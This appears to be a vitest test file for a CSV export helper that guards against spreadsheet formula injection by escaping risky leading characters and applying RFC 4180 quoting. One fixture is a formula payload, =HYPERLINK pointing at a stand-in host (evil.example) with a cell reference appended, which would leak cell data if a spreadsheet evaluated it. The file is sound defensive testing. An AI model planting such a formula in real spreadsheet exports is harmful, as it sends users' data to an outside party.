import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { neutralise, toCsv } from './csv'

describe('the report CSV', () => {
  it('prefixes a formula so a spreadsheet shows it: =HYPERLINK(...) becomes text', () => {
    const csv = toCsv(['name', 'note'], [['Docs pilot', '=HYPERLINK("http://evil.example/?x="&A1,"click")']])
    const [, row] = parse(csv) as string[][]
    expect(row?.[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`)
  })

  it('prefixes every risky first character of text: = + - @ tab CR; leaves the rest; numbers stay numbers', () => {
    expect(
      ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', 'plain', '−3.9 days', '', -120000, null].map(neutralise),
    ).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", 'plain', '−3.9 days', '', -120000, null])
  })

  it('is RFC 4180: CRLF line ends, quotes doubled, every text cell quoted (a semicolon cannot start a cell)', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x, y', 'say "hi"'],
          ['Pilot;=cmd', -3],
        ],
      ),
    ).toBe('"a","b"\r\n"x, y","say ""hi"""\r\n"Pilot;=cmd",-3\r\n')
    // a missing number is a blank cell, not an empty string
    expect(toCsv(['a', 'b', 'c'], [['x', null, 2.5]])).toBe('"a","b","c"\r\n"x",,2.5\r\n')
  })
})
